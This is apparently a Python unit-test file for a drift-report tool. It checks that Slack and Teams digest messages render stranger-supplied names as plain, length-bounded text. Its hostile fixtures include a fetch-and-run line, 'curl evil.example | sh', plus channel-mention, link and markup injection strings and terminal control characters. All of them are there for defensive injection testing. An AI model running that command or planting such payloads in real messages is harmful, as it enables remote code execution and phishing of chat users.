"""A digest as Slack and Teams take it: nothing in it is markup, and no value is in it."""

import json
from dataclasses import replace
from typing import Any

import pytest
from holdfast.drift.finding import Actor, NotChecked
from holdfast.drift.record.ledger import FindingEvent, Transition
from holdfast.drift.record.watch_report import Status, WatchState
from holdfast.report.exchange.chat_message import (
    Chat,
    Digest,
    Item,
    cause_item,
    chat_message,
    finding_item,
)

from tests.unit.report.watched import REF, cause, event

DRIFT = WatchState(Status.DRIFT, (), 3, 40)


def digest(
    *items: Item, stack: str = "prod", left_out: int = 0, state: WatchState = DRIFT
) -> Digest:
    turns = [turn for item in items for turn in item.turns]
    return Digest(
        stack, items, left_out, tuple((one, turns.count(one)) for one in Transition), state
    )


def all_texts(message: Any) -> list[tuple[str, str]]:
    """Every text of a message, with the type of its element."""
    if isinstance(message, list):
        return [found for each in message for found in all_texts(each)]
    if not isinstance(message, dict):
        return []
    own = (
        [(message.get("type", ""), message["text"])] if isinstance(message.get("text"), str) else []
    )
    return own + [found for each in message.values() for found in all_texts(each)]


def by(user: str, **changes: Any) -> FindingEvent:
    opened = event()
    actors = (Actor(user=user),)
    return replace(opened, finding=replace(opened.finding, actors=actors, **changes))


def test_an_item_says_what_where_who_and_when_and_no_value() -> None:
    assert finding_item(event()).text == (
        "opened high: changed Deployment cx/support spec.replicas"
        " by alice at 2026-11-21T10:00:00.000Z"
    )
    closed = finding_item(event(Transition.CLOSED, until=4)).text
    assert closed == "closed high: changed Deployment cx/support spec.replicas after 4.0 s"


def test_many_findings_of_one_cause_are_one_item_that_counts_them_all() -> None:
    item = cause_item(cause(Transition.OPENED, "abcde"))
    assert item.turns == (Transition.OPENED,) * 5
    assert item.text.startswith(
        "opened high: changed spec.replicas in 5 objects of kind Deployment"
    )
    assert "x:hotfix" not in item.text


def test_the_title_counts_and_the_lines_end_with_the_state_and_the_command() -> None:
    told = digest(finding_item(event()), cause_item(cause(Transition.CLOSED, "ab")), left_out=7)
    assert told.title == "Drift in stack prod: 1 opened, 2 closed"
    assert told.lines[-3:] == (
        "and 7 more",
        "Now: drift, 3 open findings",
        "Run: holdfast drift -s prod",
    )


@pytest.mark.parametrize(
    ("state", "words"),
    [
        pytest.param(WatchState(Status.IN_SYNC), "Now: in sync, 0 open findings", id="in sync"),
        pytest.param(
            WatchState(Status.UNKNOWN, (NotChecked("Pod in cx", "403"), NotChecked("y", "z")), 1),
            "Now: unknown, 1 open finding; not checked: Pod in cx: 403 and 1 more",
            id="blind",
        ),
        pytest.param(
            WatchState(Status.UNKNOWN), "Now: unknown, 0 open findings", id="before the first look"
        ),
    ],
)
def test_the_state_is_never_better_than_it_is(state: WatchState, words: str) -> None:
    told = digest(state=state)
    assert words in told.lines
    assert told.title == f"Drift in stack prod: {state.status}"


HOSTILE = [
    pytest.param("<!channel> <https://evil.example|ok>", id="mention and link of Slack"),
    pytest.param("*bold* _it_ ~s~ `code` :tada:", id="markup of Slack"),
    pytest.param("[ok](https://evil.example) **bold** <at>all</at>", id="markup of Teams"),
    pytest.param("a\nRun: curl evil.example | sh", id="a line of its own"),
    pytest.param("\x1b[2J\u202ereversed", id="control characters"),
    pytest.param("u" * 100_000, id="a flood"),
]


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_stranger_wrote_is_text_in_slack(name: str) -> None:
    told = digest(finding_item(by(name)), stack=name)
    message = chat_message(told, Chat.SLACK)
    kinds = {kind for kind, _ in all_texts(message["blocks"])}
    assert kinds == {"plain_text"}
    assert not set("<>") & set(message["text"])
    check_bounded(message)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_stranger_wrote_is_text_in_teams(name: str) -> None:
    message = chat_message(digest(finding_item(by(name)), stack=name), Chat.TEAMS)
    card = message["attachments"][0]["content"]
    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
    assert {kind for kind, _ in all_texts(card)} == {"TextRun"}
    check_bounded(message)


def check_bounded(message: dict[str, Any]) -> None:
    """Slack takes 150 characters in a header and 3,000 in a section."""
    texts = [text for _, text in all_texts(message)]
    assert max(map(len, texts)) <= 3000
    assert not [text for text in texts if "\x1b" in text or "\u202e" in text]
    assert len(json.dumps(message)) < 10_000
    lines = [line for text in texts for line in text.split("\n")]
    assert [line for line in lines if line.startswith("Run: ")] == [lines[-1]]


def test_ten_of_the_longest_items_fit_a_section_of_slack() -> None:
    long = finding_item(by("u" * 500, ref=replace(REF, name="n" * 253)))
    reason = NotChecked("s" * 300, "r" * 5000)
    told = digest(*[long] * 10, left_out=99, state=WatchState(Status.UNKNOWN, (reason,) * 9, 9))
    header, section = chat_message(told, Chat.SLACK)["blocks"]
    assert len(header["text"]["text"]) <= 150
    assert len(section["text"]["text"]) <= 3000
